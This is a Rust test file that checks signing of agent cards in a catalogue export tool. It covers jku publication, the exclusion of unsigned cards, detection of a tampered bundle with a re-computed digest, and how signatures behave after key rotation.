// Signed cards in exports (card/signing.rs; a2a-sdk verifies the site's cards in tests/a2a).

/// A copy of the sample whose cards a2a-sdk can verify (the sample's `{bearer: []}` is empty to
/// it), with keys `ed` (and `es`, when given) in its `cards/jwks.json`, and its first agent's
/// card approved and signed by them. Returns the root and the agent.
fn signed_sample(dir: &Path, keys: &[skillhouse_core::card::signing::SigningKey]) -> (PathBuf, String) {
    let root = dir.join("cat");
    common::copy_dir(&common::sample(), &root);
    let config = fs::read_to_string(root.join("skillhouse.yaml")).unwrap();
    assert!(config.contains("    - {bearer: []}"), "the sample's security requirement moved; update this test");
    fs::write(root.join("skillhouse.yaml"), config.replace("    - {bearer: []}", "    - {bearer: [agents.call]}")).unwrap();
    for k in keys {
        skillhouse_core::card::jwks::add(&root, k.public_jwk()).unwrap();
    }
    let cat = counted(&root);
    let agent = cat.agents[0].name.clone();
    skillhouse_core::card::approve(&cat, &agent, "Ada <ada@example.com>", "2026-12-01T00:00:00Z", keys).unwrap();
    (root, agent)
}

fn key(alg: skillhouse_core::card::signing::Alg, byte: u8) -> skillhouse_core::card::signing::SigningKey {
    skillhouse_core::card::signing::SigningKey::from_seed(alg, &[byte; 32]).unwrap()
}

fn bytes_at<'a>(export: &'a export::Export, path: &str) -> &'a [u8] {
    match &export.entries.iter().find(|e| e.path == path).unwrap_or_else(|| panic!("no {path} in the export")).content {
        Content::Bytes(b) => b,
        Content::File(f) => panic!("{path} is a copy of {}", f.display()),
    }
}

#[test]
fn the_site_publishes_signed_cards_with_the_key_set_and_a_jku_when_a_base_url_is_given() {
    use skillhouse_core::card::signing::{self, Alg, Jwks, Outcome};
    let tmp = tempfile::tempdir().unwrap();
    let ed = key(Alg::EdDSA, 21);
    let (root, agent) = signed_sample(tmp.path(), std::slice::from_ref(&ed));
    let cat = counted(&root);
    for target in [Target::A2aSite, Target::AiCatalog] {
        let options = Options { base_url: Some("https://agents.example.com/team".into()), ..Options::default() };
        let site = export::export(&cat, target, &options).unwrap();
        let card: serde_json::Value =
            serde_json::from_slice(bytes_at(&site, &format!("agents/{agent}/.well-known/agent-card.json"))).unwrap();
        let set = Jwks::parse(std::str::from_utf8(bytes_at(&site, ".well-known/jwks.json")).unwrap()).unwrap();
        assert_eq!(bytes_at(&site, ".well-known/jwks.json"), fs::read(root.join("cards/jwks.json")).unwrap());
        let checks = signing::verify(&card, &set, "the site's key set").unwrap();
        assert_eq!(checks.iter().map(|c| c.outcome).collect::<Vec<_>>(), vec![Outcome::Verified], "{target:?}");
        assert_eq!(checks[0].jku.as_deref(), Some("https://agents.example.com/team/.well-known/jwks.json"));
        assert!(site.warnings.is_empty(), "{:?}", site.warnings);
    }
    // Without a base URL: the same signatures, no jku; and the unsigned cards are left out, not
    // published with a signature they never had.
    let site = export::export(&cat, Target::A2aSite, &Options::default()).unwrap();
    let card: serde_json::Value = serde_json::from_slice(bytes_at(&site, &format!("agents/{agent}/.well-known/agent-card.json"))).unwrap();
    assert!(card["signatures"][0].get("header").is_none());
    assert_eq!(site.left_out.len(), cat.agents.len() - 1);
}

#[test]
fn a_signed_bundle_verifies_and_a_re_signed_forgery_does_not() {
    use skillhouse_core::card::signing::Alg;
    let tmp = tempfile::tempdir().unwrap();
    let (root, agent) = signed_sample(tmp.path(), &[key(Alg::EdDSA, 22), key(Alg::ES256, 23)]);
    let out = tmp.path().join("b");
    let export = export::export(&counted(&root), Target::Bundle, &Options::default()).unwrap();
    archive::write(&export.entries, Packaging::Folder, &out, &WriteOptions::default()).unwrap();
    let registry = registry_of(&out);
    let keys = registry.keys.clone().expect("the registry lists the key set");
    assert_eq!(keys.path, "cards/jwks.json");
    assert_eq!(fs::read(out.join("cards/jwks.json")).unwrap(), fs::read(root.join("cards/jwks.json")).unwrap());
    let v = verify::verify(&out).unwrap();
    assert!(v.is_ok(), "{:?}", v.diagnostics);
    assert_eq!(v.signed_cards, 1);

    // Someone changes the card and fixes up the registry's sha256 so the digests agree: only
    // the signatures can tell, and both say so.
    let card_path = out.join(format!("cards/{agent}.json"));
    let mut card: serde_json::Value = serde_json::from_slice(&fs::read(&card_path).unwrap()).unwrap();
    card["description"] = serde_json::json!("Does anything you ask.");
    let forged = skillhouse_core::card::to_bytes(&card);
    fs::write(&card_path, &forged).unwrap();
    let mut reg: serde_json::Value = serde_json::from_slice(&fs::read(out.join("registry.json")).unwrap()).unwrap();
    let i = registry.agents.iter().position(|a| a.name == agent).unwrap();
    reg["agents"][i]["card"]["sha256"] = serde_json::json!(skillhouse_core::files::sha256_hex(&forged));
    fs::write(out.join("registry.json"), serde_json::to_vec_pretty(&reg).unwrap()).unwrap();
    let v = verify::verify(&out).unwrap();
    assert_eq!(codes(&v.diagnostics), vec![Code::BundleSignatureInvalid, Code::BundleSignatureInvalid]);
    assert!(v.diagnostics[0].message.contains("does not match the card"), "{}", v.diagnostics[0].message);
    assert_eq!(v.diagnostics[0].file, format!("cards/{agent}.json"));
    assert_eq!(v.signed_cards, 0);
    // Import refuses it, and the catalogue it would go into is not touched.
    let into = tmp.path().join("into");
    let plan = import::plan(&out, &into).unwrap();
    assert!(codes(&plan.diagnostics).contains(&Code::BundleSignatureInvalid));
    assert!(import::apply(&plan).is_err());
    assert!(!into.exists());

    // A key set swapped for the forger's own: the listed sha256 no longer matches.
    let mut reg2 = reg.clone();
    reg2["keys"]["sha256"] = serde_json::json!("0".repeat(64));
    fs::write(out.join("registry.json"), serde_json::to_vec_pretty(&reg2).unwrap()).unwrap();
    assert!(codes(&verify::verify(&out).unwrap().diagnostics).contains(&Code::BundleFileMismatch));

    // Signed cards with the key set taken out of the registry: nothing to check them with.
    let mut reg3 = reg;
    reg3.as_object_mut().unwrap().remove("keys");
    fs::write(out.join("registry.json"), serde_json::to_vec_pretty(&reg3).unwrap()).unwrap();
    let v = verify::verify(&out).unwrap();
    assert!(
        v.diagnostics.iter().any(|d| d.code == Code::BundleSignatureInvalid && d.message.contains("no key set")),
        "{:?}",
        v.diagnostics
    );
}

#[test]
fn after_rotation_only_the_signatures_that_still_verify_are_published() {
    use skillhouse_core::card::signing::Alg;
    let tmp = tempfile::tempdir().unwrap();
    let (old, new) = (key(Alg::EdDSA, 24), key(Alg::EdDSA, 25));
    let (root, agent) = signed_sample(tmp.path(), &[old.clone(), new.clone()]);
    // The old key is removed from the published set: its signature no longer verifies.
    assert!(skillhouse_core::card::jwks::remove(&root, old.kid()).unwrap());
    let site = export::export(&counted(&root), Target::A2aSite, &Options::default()).unwrap();
    let card: serde_json::Value = serde_json::from_slice(bytes_at(&site, &format!("agents/{agent}/.well-known/agent-card.json"))).unwrap();
    assert_eq!(card["signatures"].as_array().unwrap().len(), 1);
    assert_eq!(site.warnings.len(), 1);
    assert!(site.warnings[0].contains(old.kid()), "{}", site.warnings[0]);
    // The new one removed too: no signature verifies, so the card is left out, with the reason.
    assert!(skillhouse_core::card::jwks::remove(&root, new.kid()).unwrap());
    let site = export::export(&counted(&root), Target::A2aSite, &Options::default()).unwrap();
    assert!(!site.entries.iter().any(|e| e.path.contains(&agent)));
    let left = site.left_out.iter().find(|l| l.agent == agent).unwrap();
    assert!(left.reason.contains("no signature verifies"), "{}", left.reason);
    // A broken key set stops the export rather than publishing signatures nobody can check.
    fs::write(root.join("cards/jwks.json"), "{\"keys\": [").unwrap();
    let err = export::export(&counted(&root), Target::Bundle, &Options::default()).unwrap_err();
    assert!(err.to_string().contains("cards/jwks.json"), "{err}");
}
